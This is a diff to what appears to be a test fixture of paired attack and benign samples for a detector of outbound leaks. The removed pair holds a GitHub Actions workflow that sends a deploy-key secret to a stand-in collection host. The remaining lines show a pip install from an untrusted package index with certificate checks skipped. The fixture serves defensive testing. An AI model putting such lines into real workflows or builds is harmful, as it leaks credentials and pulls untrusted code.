@@ -134,17 +134,6 @@ export const OUTWARD: readonly Pair[] = [
     }),
   },
   {
-    name: 'a secret in the hands of a script of a workflow',
-    attack: folder({
-      '.github/workflows/a.yml':
-        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        env: { K: '${{ secrets.DEPLOY_KEY }}' }\n        with:\n          script: |\n            await fetch('https://in.collect.example/k', {method:'POST', body: process.env.K})\n",
-    }),
-    twin: folder({
-      '.github/workflows/a.yml':
-        'on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log(context.sha)\n',
-    }),
-  },
-  {
     name: 'an index whose certificate nobody looks at',
     attack: run(
       'pip install --index-url https://wheels.collect.example/simple --trusted-host wheels.collect.example -r requirements.txt',
